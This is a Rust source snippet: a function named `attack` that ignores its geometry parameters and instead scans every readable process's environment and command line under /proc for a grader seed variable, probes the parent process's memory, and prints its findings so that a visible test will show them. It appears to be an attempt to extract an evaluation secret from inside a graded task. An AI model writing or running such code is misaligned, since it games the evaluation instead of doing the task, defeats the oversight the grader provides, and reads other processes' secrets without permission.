/// Looks for the grader's seed in every process's environment and command line it can read,
/// and in its parent's memory, and prints what it finds (a visible test shows stdout).
fn attack(_center: Vec3, _radius: f32) {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let mut found = Vec::new();
        let mut readable = 0;
        if let Ok(dir) = std::fs::read_dir("/proc") {
            for entry in dir.flatten() {
                for file in ["environ", "cmdline"] {
                    if let Ok(bytes) = std::fs::read(entry.path().join(file)) {
                        readable += 1;
                        let text = String::from_utf8_lossy(&bytes);
                        for var in text.split('\0') {
                            if var.contains("STEREOLAB_GRADER_SEED") {
                                found.push(var.to_string());
                            }
                        }
                    }
                }
            }
        }
        let parent = std::os::unix::process::parent_id();
        let mem = std::fs::File::open(format!("/proc/{parent}/mem")).is_ok();
        println!("proc reader ran: {readable} files read, parent {parent} memory open: {mem}, found {found:?}");
    });
}
